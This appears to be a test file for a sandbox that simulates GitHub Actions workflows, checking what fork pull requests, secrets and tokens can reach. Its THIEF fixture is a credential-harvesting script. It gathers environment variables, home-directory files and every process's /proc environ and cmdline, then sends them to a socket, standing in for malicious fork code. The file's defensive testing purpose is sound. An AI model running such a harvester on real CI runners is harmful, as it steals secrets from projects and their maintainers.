"""Events beside a push: what each run is told, may do, and is asked for; a fork's code and the secrets; scripts."""

import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from harness.containers.sandbox import Sandbox
from harness.exercises.pipeline import PipelineRun
from harness.workflows import events, workflows
from harness.workflows.actlog import Run, run_of
from harness.workflows.workflows import Workflow

pytestmark = pytest.mark.sandbox
HELD = "DEPLOY_KEY"
ACTIONS = {
    f"{name}@v1": name
    for name in (
        "actions/checkout", "actions/upload-artifact", "actions/download-artifact", "actions/github-script",
        "actions/create-github-app-token", "peter-evans/create-pull-request", "model-platform/publish",
    )
}  # fmt: skip
THIEF = """
import json, os, pathlib, socket
texts = [json.dumps(dict(os.environ))]
for path in (*pathlib.Path.home().rglob("*"), *pathlib.Path("/proc").glob("[0-9]*/environ"), *pathlib.Path("/proc").glob("[0-9]*/cmdline")):
    try:
        texts.append(path.read_text(errors="replace"))
    except OSError:
        pass
line = socket.socket(socket.AF_UNIX)
line.connect("/work/platform/socket")
line.sendall(json.dumps({"do": "hear", "text": " ".join(texts)[:500000]}).encode() + b"\\n")
line.recv(10)
"""
WORLD = f"""
def make(overtaken=False):
    main = {{"main": {{"code.py": "print('seen another merge')"}}}} if overtaken else {{}}
    return {{
        **main,
        "files": {{"code.py": "print('main')", "model.txt": "m"}}, "head": {{"code.py": {THIEF!r}}},
        "production": {{}}, "truth": None,
    }}


def judge(model, truth):
    return {{"model": model}}
"""
JOB = "jobs:\n  one:\n    runs-on: ubuntu-latest\n"
Player = Callable[..., Run]


@pytest.fixture
def played(sandbox: Sandbox, tmp_path: Path) -> Player:
    """Play one event on workflows."""

    def play(run: PipelineRun, *texts: str) -> Run:
        files = {f".github/workflows/w{number}.yml": text for number, text in enumerate(texts)}
        found = [one for file, text in files.items() for one in workflows.parse(file, text.encode())[0]]
        flows = [one for one in found if isinstance(one, Workflow)]
        assert len(flows) == len(texts)
        (tmp_path / "world.py").write_text(WORLD, "utf-8")
        told = list(events.started([run], flows, [HELD]))
        job = {"files": files, "runs": told, "actions": ACTIONS, "engine_takes": {}, "seconds": 30}
        result: dict[str, Any] = sandbox.play(job, tmp_path / "world.py", threading.Event())
        return run_of(result["runs"][0])

    return play


def said(run: Run, start: str = "seen") -> list[str]:
    return [line.partition(": ")[2] for line in run.words if line.partition(": ")[2].startswith(start)]


def flow(on: str, *steps: str, more: str = "", name: str = "ci") -> str:
    return f"name: {name}\non: {on}\n{JOB}{more}    steps:\n" + "".join(f"      - {step}\n" for step in steps)


def script(*lines: str, given: str = "") -> str:
    body = "".join(f"            {line}\n" for line in lines)
    return f"uses: actions/github-script@v1\n        with:\n{given}          script: |\n{body}".rstrip()


def test_a_schedule_and_a_dispatch_with_inputs(played: Player) -> None:
    steps = (
        'run: echo "seen ${{ github.event_name }} ${{ github.event.schedule }} ${{ inputs.reason }} ${{ github.ref }}"'
    )
    both = flow("{schedule: [{cron: '0 3 * * *'}], workflow_dispatch: {inputs: {reason: {type: string}}}}", steps)
    assert said(played(PipelineRun("s", "schedule", {}), both)) == ["seen schedule 0 3 * * *  refs/heads/main"]
    asked = PipelineRun("d", "workflow_dispatch", {}, inputs={"reason": "drift"})
    assert said(played(asked, both)) == ["seen workflow_dispatch  drift refs/heads/main"]


@pytest.mark.parametrize(("ref", "seen"), [
    ("", "main"), ("${{ github.sha }}", "main"), ("${{ github.ref }}", "seen another merge"), ("main", "seen another merge"),
])  # fmt: skip
def test_a_branch_is_taken_as_it_is_by_then(played: Player, ref: str, seen: str) -> None:
    """Where another merge came since the event; what follows the run starts on the newest commit, unless it asks for another."""
    first = flow("push", f"uses: actions/checkout@v1\n        with: {{ref: '{ref}'}}", "run: python3 code.py")
    run = played(PipelineRun("p", "push", {"overtaken": True}), first)
    assert said(run, "")[-1:] == [seen]
    follows = "{workflow_run: {workflows: [ci], types: [completed]}}"
    take = f"uses: actions/checkout@v1\n        with: {{ref: '{ref and '${{ github.event.workflow_run.head_sha }}'}'}}"
    after = flow(follows, take, "run: python3 code.py", name="after")
    run = played(PipelineRun("p", "push", {"overtaken": True}), flow("push", "run: echo first"), after)
    assert ("seen another merge" in said(run)) == (not ref)


def test_filters_of_paths_are_kept_to(played: Player) -> None:
    one = flow("{push: {paths: ['training/**']}}", "run: echo seen")
    assert played(PipelineRun("p", "push", {}, changed=("README.md",)), one).jobs == ()
    assert said(played(PipelineRun("p", "push", {}, changed=("training/a.py",)), one)) == ["seen"]


def test_secrets_are_there_and_nowhere_to_be_read(played: Player) -> None:
    """A step has what it is given, hidden in the log; nothing stands in its environment or in act's command line."""
    steps = (
        "uses: actions/checkout@v1\n        with: {persist-credentials: false}",
        f'run: test -n "${{{{ secrets.{HELD} }}}}" && echo "seen ${{{{ secrets.{HELD} }}}}"',
    )
    run = played(PipelineRun("p", "push", {}), flow("push", *steps, "run: env | grep -ic -e deploy_key -e github_token || true; ls /work | grep secrets || echo seen none"))  # fmt: skip
    assert said(run) == ["seen ***", "seen none"]


@pytest.mark.parametrize(
    ("event", "on", "checkout", "writes"),
    [
        ("fork_pull_request", "pull_request", "{}", []),
        ("pull_request", "pull_request", "{}", ["contents"]),
        ("fork_pull_request", "pull_request_target", "{ref: '${{ github.event.pull_request.head.sha }}'}", ["contents"]),
        ("fork_pull_request", "pull_request_target", "{ref: '${{ github.event.pull_request.head.sha }}', persist-credentials: false}", ["contents"]),
    ],
)  # fmt: skip
def test_what_unreviewed_code_gets_hold_of(
    played: Player, event: str, on: str, checkout: str, writes: list[str]
) -> None:
    """Nothing in a fork's own pull request; the job's token where rights are lent to it, wherever that is kept."""
    text = flow(on, f"uses: actions/checkout@v1\n        with: {checkout}", "run: python3 code.py", more="    permissions: {contents: write}\n")  # fmt: skip
    run = played(PipelineRun("f", event, {}, branch="patch"), text)
    assert [(one["event"], one["found"], one["writes"]) for one in run.heard] == [(on, [], writes)]


def test_a_secret_that_a_step_is_given_is_within_the_codes_reach(played: Player) -> None:
    give = f"run: python3 code.py\n        env: {{KEY: '${{{{ secrets.{HELD} }}}}'}}"
    steps = (
        "uses: actions/checkout@v1\n        with: {ref: '${{ github.head_ref }}', persist-credentials: false}",
        give,
    )
    run = played(PipelineRun("f", "fork_pull_request", {}, branch="patch"), flow("pull_request_target", *steps))
    assert [one["found"] for one in run.heard] == [[HELD]]
    unarmed = (steps[0].replace("${{ github.head_ref }}", ""), give)
    run = played(PipelineRun("f", "fork_pull_request", {}, branch="patch"), flow("pull_request_target", *unarmed))
    assert run.heard == ()


COMMENT = "await github.rest.issues.createComment({...context.repo, issue_number: context.issue.number, body: 'x'})"


@pytest.mark.parametrize(
    ("event", "granted", "allowed"),
    [
        ("pull_request", "{pull-requests: write}", True),
        ("pull_request", "{contents: read}", False),
        ("fork_pull_request", "{pull-requests: write}", False),
    ],
)
def test_a_comment_needs_a_right_that_forks_do_not_have(played: Player, event: str, granted: str, *, allowed: bool) -> None:  # fmt: skip
    text = flow("pull_request", script(COMMENT), more=f"    permissions: {granted}\n")
    run = played(PipelineRun("p", event, {}, branch="patch"), text)
    assert [(one["call"], one["allowed"], one["arguments"]["issue_number"]) for one in run.calls] == [("issues.createComment", allowed, 7)]  # fmt: skip
    assert run.conclusion == ("success" if allowed else "failure")


def test_what_follows_a_forks_run_has_its_artifacts_and_rights_of_its_own(played: Player) -> None:
    """The two halves of GitHub's advice: an unprivileged run leaves data, a privileged one that starts after it uses it."""
    first = flow("pull_request", "run: echo 0.8 > auc", "uses: actions/upload-artifact@v1\n        with: {name: auc, path: auc}")  # fmt: skip
    second = flow(
        "{workflow_run: {workflows: [ci], types: [completed]}}",
        "uses: actions/download-artifact@v1\n        with: {name: auc, run-id: '${{ github.event.workflow_run.id }}', github-token: '${{ github.token }}'}",
        script(
            "const ended = context.payload.workflow_run",
            "const head = `${ended.head_repository.owner.login}:${ended.head_branch}`",
            "const [pull] = (await github.rest.pulls.list({...context.repo, head})).data",
            "const body = require('fs').readFileSync('auc', 'utf8').trim() + ' ' + ended.conclusion",
            "await github.rest.issues.createComment({...context.repo, issue_number: pull.number, body})",
        ),
        more="    permissions: {actions: read, pull-requests: write}\n",
        name="comment",
    )
    run = played(PipelineRun("f", "fork_pull_request", {}, branch="patch"), first, second)
    assert [(one["event"], one["allowed"], one["arguments"]["body"]) for one in run.calls] == [("workflow_run", True, "0.8 success")]  # fmt: skip
    blind = played(
        PipelineRun("f", "fork_pull_request", {}, branch="patch"), first, second.replace("actions: read, ", "")
    )
    assert (blind.calls, blind.conclusion) == ((), "failure")


def test_scripts(played: Player) -> None:
    """core, context, outputs and failures of github-script."""
    run = played(
        PipelineRun("p", "push", {}),
        flow(
            "push",
            "id: s\n        " + script("core.setOutput('a', {b: 'two\\nlines'}); core.info(`seen ${context.eventName} ${context.repo.owner}`); core.notice('n'); core.warning('w'); await core.summary.addRaw('x').write(); return 7"),
            "run: echo seen '${{ steps.s.outputs.a }} ${{ steps.s.outputs.result }}'",
            "id: f\n        continue-on-error: true\n        " + script("core.setFailed('no')"),
            "id: t\n        continue-on-error: true\n        " + script("await github.rest.repos.delete({})"),
            "run: echo seen ${{ steps.f.outcome }} ${{ steps.t.outcome }}",
        ),
    )  # fmt: skip
    assert said(run) == ["seen push acme", 'seen {"b":"two\\nlines"} 7', "seen failure failure"]
    assert "repos.delete is not played here" in " ".join(run.words)


@pytest.mark.parametrize(("granted", "by"), [("{id-token: write}", ["identity"]), ("{contents: read}", [])])
def test_publishing_asks_for_an_identity(played: Player, granted: str, by: list[str]) -> None:
    steps = ("uses: actions/checkout@v1", "uses: model-platform/publish@v1\n        with: {model: model.txt}")
    run = played(PipelineRun("p", "push", {}), flow("push", *steps, more=f"    permissions: {granted}\n"))
    assert [one["by"] for one in run.calls if one["call"] == "publish"] == by
    assert [one["judged"] for one in run.deployed] == [{"model": "m"} for _ in by]


@pytest.mark.parametrize(
    ("token", "by"), [("${{ github.token }}", "workflow"), ("${{ steps.app.outputs.token }}", "app")]
)
def test_who_opened_a_pull_request_is_recorded(played: Player, token: str, by: str) -> None:
    app = f"id: app\n        uses: actions/create-github-app-token@v1\n        with: {{app-id: '1', private-key: '${{{{ secrets.{HELD} }}}}'}}"
    pull = f"uses: peter-evans/create-pull-request@v1\n        with: {{branch: bot, token: '{token}'}}"
    rights = "    permissions: {contents: write, pull-requests: write}\n"
    one = flow("{schedule: [{cron: '0 3 * * *'}]}", app, pull, more=rights)
    run = played(PipelineRun("s", "schedule", {}), one, flow("pull_request", "run: echo seen ${{ github.head_ref }}"))
    used = [["contents"], ["pull-requests"]] if by == "workflow" else [[], []]
    assert [(call["call"], call["by"], call["uses"]) for call in run.calls] == [
        ("git.createRef", by, used[0]), ("pulls.create", by, used[1])
    ]  # fmt: skip
    assert said(run) == (["seen bot"] if by == "app" else [])  # what the workflow's own token does starts nothing


def test_a_dispatch_by_the_api_runs_where_it_says(played: Player) -> None:
    """On the branch of the pull request that was opened, on its commit; nothing runs that was not dispatched."""
    pull = "uses: peter-evans/create-pull-request@v1\n        with: {branch: bot}"
    ask = script(
        "await github.rest.actions.createWorkflowDispatch({...context.repo, workflow_id: 'w1.yml', ref: 'bot'})"
    )
    rights = "    permissions: {contents: write, pull-requests: write, actions: write}\n"
    night = flow("{schedule: [{cron: '0 3 * * *'}]}", pull, ask, more=rights)
    asked = [flow("workflow_dispatch", "run: echo seen ${{ github.ref }}", name=name) for name in ("one", "other")]
    assert said(played(PipelineRun("s", "schedule", {}), night, *asked)) == ["seen refs/heads/bot"]


def test_calls_of_the_api_in_every_form(played: Player) -> None:
    """By name, by route, filled in or not, page by page; reads answer what is known and what was written."""
    run = played(
        PipelineRun("p", "pull_request", {}, branch="patch", changed=("a.py", "b.py")),
        flow(
            "pull_request",
            script(
                "const here = { ...context.repo, issue_number: context.issue.number }",
                "await github.request('POST /repos/{owner}/{repo}/issues/{issue_number}/comments', { ...here, body: 'one' })",
                "await github.request(`POST /repos/${context.repo.owner}/${context.repo.repo}/issues/7/comments`, { body: 'two' })",
                "const all = await github.paginate(github.rest.issues.listComments, here)",
                "await github.rest.issues.updateComment({ ...here, comment_id: all[1].id, body: 'three' })",
                "const files = await github.paginate('GET /repos/{owner}/{repo}/pulls/{pull_number}/files', { ...context.repo, pull_number: 7 }, page => page.data.map(file => file.filename))",
                "const bodies = (await github.rest.issues.listComments(here)).data.map(comment => comment.body)",
                "const gone = await github.rest.pulls.get({ ...context.repo, pull_number: 99 }).catch(problem => problem.status)",
                "core.info(`seen ${files} ${bodies} ${gone} ${(await github.rest.pulls.list(context.repo)).data.length}`)",
                "await github.graphql('query { viewer { login } }')",
            ),
            more="    permissions: {pull-requests: write, checks: write}\n",
        ),
    )
    assert said(run) == ["seen a.py,b.py one,three 404 2"]
    assert "github.graphql is not played here" in str(run)
    assert {(one["call"], *one["uses"]) for one in run.calls} == {
        ("issues.createComment", "pull-requests"), ("issues.updateComment", "pull-requests")
    }  # fmt: skip


def test_a_persistent_stranger_comments_with_the_words_that_a_workflow_waits_for(played: Player) -> None:
    """Its code runs where a comment starts a workflow that takes it, and where another activity does."""
    take = "uses: actions/checkout@v1\n        with: {ref: 'refs/pull/7/head'}"
    asked = flow("{issue_comment: {types: [created]}}", take, "run: python3 code.py", more="    if: github.event.comment.body == '/try'\n    permissions: {issues: write}\n")  # fmt: skip
    edited = flow("{pull_request_target: {types: [edited]}}", take, "run: python3 code.py", name="edited")
    stranger = PipelineRun("f", "fork_pull_request", {}, branch="patch", persistent=True)
    assert [(one["event"], one["writes"]) for one in played(stranger, asked, edited).heard] == [
        ("pull_request_target", []), ("issue_comment", ["issues"])
    ]  # fmt: skip
